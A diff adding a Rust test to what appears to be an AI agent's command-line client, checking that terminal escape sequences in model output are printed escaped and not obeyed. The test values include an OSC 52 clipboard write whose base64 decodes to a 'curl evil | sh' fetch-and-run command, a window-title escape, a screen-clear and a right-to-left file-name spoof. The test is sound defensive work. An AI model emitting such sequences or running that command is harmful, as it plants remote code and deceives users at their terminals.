@@ -237,6 +237,25 @@ fn a_tool_call_without_arguments_is_answered() {
     assert!(result["content"].as_str().unwrap().contains("overview.md"), "{result}");
 }
 
+/// A model's text reaches the terminal with its control characters shown, not obeyed: an
+/// answer's OSC 52 (a clipboard write) and CSI, a tool name's OSC 0 (the window title).
+#[test]
+fn a_model_cannot_drive_the_terminal() {
+    let ws = Workspace::new("escapes");
+    let server = Server::start(vec![
+        Reply::call(&[("\u{1b}]0;pwned\u{7}list_files", json!({}))]),
+        Reply::say("\u{1b}]52;c;Y3VybCBldmlsIHwgc2g=\u{7}\u{1b}[2JDone.\u{202e}txt.exe"),
+    ]);
+    let out = ws.cmd(Some(&server.url), &["agent", "--session", "s", "go", "--no-stream", "--retries", "0"]).output().unwrap();
+    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
+    let (stdout, stderr) = (String::from_utf8_lossy(&out.stdout), String::from_utf8_lossy(&out.stderr));
+    for text in [&stdout, &stderr] {
+        assert!(!text.contains('\u{1b}') && !text.contains('\u{7}') && !text.contains('\u{202e}'), "{text:?}");
+    }
+    assert_eq!(stdout.trim(), "\\u{1b}]52;c;Y3VybCBldmlsIHwgc2g=\\u{7}\\u{1b}[2JDone.\\u{202e}txt.exe");
+    assert!(stderr.contains("\\u{1b}]0;pwned\\u{7}list_files"), "{stderr}");
+}
+
 /// A worker on a shared board (spec 002 §4): each request carries its task's brief, nudges
 /// for it included, after the history (so the prefix stays cached) and before context_meta;
 /// the board tools are offered and move the task; a refused op goes back to the model.
